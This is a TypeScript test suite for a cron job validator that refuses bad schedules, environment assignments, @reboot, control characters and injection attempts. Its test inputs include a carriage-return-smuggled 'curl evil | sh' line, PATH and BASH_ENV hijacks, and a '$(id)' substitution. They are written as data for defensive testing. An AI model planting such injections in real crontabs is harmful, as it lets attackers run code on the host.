import { assert, describe, it } from "@effect/vitest"
import { type CronVerdict, cronKey, renderCrontab, validateCron } from "../../src/import/CronValidator.ts"

const check = (schedule: string, command: string, mailTo?: string) => validateCron({ schedule, command, user: "bob", mailTo })
const refusedCode = (verdict: CronVerdict) => (verdict._tag === "refused" ? verdict.code : "valid")

describe("cron validator (checklist item 44)", () => {
  it("accepts five valid fields and the macros", () => {
    for (const schedule of ["*/5 * * * *", "0 3 * * 1-5", "15,45 8-18/2 1 jan-jun mon", "0 0 1 12 7", "@daily", "@HOURLY", "@annually"]) {
      assert.strictEqual(check(schedule, "/usr/bin/php ~/cron.php")._tag, "valid", schedule)
    }
    assert.deepStrictEqual(check("  0   3 * * *  ", "  php run.php  "), {
      _tag: "valid",
      job: { schedule: "0 3 * * *", command: "php run.php" },
    })
  })

  it("refuses invalid fields and field counts", () => {
    for (const schedule of [
      "60 * * * *",
      "* 24 * * *",
      "* * 0 * *",
      "* * * 13 *",
      "* * * * 8",
      "*/0 * * * *",
      "5-1 * * * *",
      "a * * * *",
      "* * * *",
      "@often",
    ]) {
      assert.strictEqual(refusedCode(check(schedule, "true")), "cron-schedule", schedule)
    }
  })

  it("refuses environment assignments: SHELL=, PATH=, BASH_ENV=, any NAME=", () => {
    for (const command of ["SHELL=/bin/bash", "PATH=/tmp/evil:/usr/bin", "BASH_ENV=/home/bob/.evil", "FOO=bar /usr/bin/run"]) {
      const verdict = check("* * * * *", command)
      assert.strictEqual(refusedCode(verdict), "cron-environment", command)
    }
    // An assignment line read as a schedule is refused too.
    assert.strictEqual(refusedCode(check("SHELL=/bin/sh", "x")), "cron-environment")
  })

  it("refuses @reboot unless the policy allows it", () => {
    const verdict = check("@reboot", "/home/bob/start.sh")
    assert.strictEqual(refusedCode(verdict), "cron-reboot")
    assert.match(verdict._tag === "refused" ? verdict.reason : "", /next boot/)
    assert.strictEqual(validateCron({ schedule: "@reboot", command: "x", user: "bob" }, { allowReboot: true })._tag, "valid")
  })

  it("refuses CR, LF, NUL and other control characters", () => {
    assert.strictEqual(refusedCode(check("* * * * *", "echo hi\r* * * * * curl evil | sh")), "cron-control-character")
    assert.strictEqual(refusedCode(check("* * * * *", "echo hi\nPATH=/tmp")), "cron-control-character")
    assert.strictEqual(refusedCode(check("* * * * *", "echo\0hi")), "cron-control-character")
    assert.strictEqual(refusedCode(check("* * * * *", "echo \u001b[2J")), "cron-control-character")
    assert.strictEqual(refusedCode(check("* * * * *\r", "echo")), "cron-control-character")
    // A tab is an ordinary separator.
    assert.strictEqual(check("* * * * *", "echo\thi")._tag, "valid")
  })

  it("caps the line length", () => {
    assert.strictEqual(check("* * * * *", `echo ${"a".repeat(985)}`)._tag, "valid")
    assert.strictEqual(refusedCode(check("* * * * *", `echo ${"a".repeat(1000)}`)), "cron-too-long")
    assert.strictEqual(refusedCode(check("* * * * *", "x".repeat(100_000))), "cron-too-long")
  })

  it("refuses a system crontab's user column", () => {
    assert.strictEqual(refusedCode(check("0 * * * *", "root /usr/bin/backup")), "cron-user-column")
    assert.strictEqual(refusedCode(check("0 * * * *", "bob /usr/bin/backup")), "cron-user-column")
    assert.strictEqual(refusedCode(check("0 * * * * root", "/usr/bin/backup")), "cron-schedule")
  })

  it("validates MAILTO", () => {
    assert.deepStrictEqual(check("@daily", "x", "ops@example.com"), {
      _tag: "valid",
      job: { schedule: "@daily", command: "x", mailTo: "ops@example.com" },
    })
    assert.deepStrictEqual(check("@daily", "x", '""'), { _tag: "valid", job: { schedule: "@daily", command: "x", mailTo: "" } })
    assert.strictEqual(check("@daily", "x", "a@example.com,bob")._tag, "valid")
    assert.strictEqual(refusedCode(check("@daily", "x", "a@example.com\nPATH=/tmp")), "cron-mailto")
    assert.strictEqual(refusedCode(check("@daily", "x", "$(id)")), "cron-mailto")
  })

  it("keys a job by user, schedule and command", () => {
    const a = cronKey("bob", { schedule: "@daily", command: "x" })
    assert.strictEqual(a, cronKey("bob", { schedule: "@daily", command: "x" }))
    assert.notStrictEqual(a, cronKey("bob", { schedule: "@hourly", command: "x" }))
    assert.isTrue(a.startsWith("bob/"))
  })

  it("renders MAILTO groups and disabled jobs, in a stable order", () => {
    const text = renderCrontab("bob", [
      { schedule: "@daily", command: "b", mailTo: "ops@example.com", enabled: true },
      { schedule: "*/5 * * * *", command: "a", enabled: true },
      { schedule: "@hourly", command: "c", enabled: false },
      { schedule: "@weekly", command: "d", mailTo: "", enabled: true },
    ])
    assert.strictEqual(
      text,
      [
        "# Crontab of bob: written by Ferry from its inventory; edits are replaced on the next import.",
        "*/5 * * * * a",
        "# disabled: @hourly c",
        'MAILTO=""',
        "@weekly d",
        "MAILTO=ops@example.com",
        "@daily b",
        "",
      ].join("\n"),
    )
  })
})
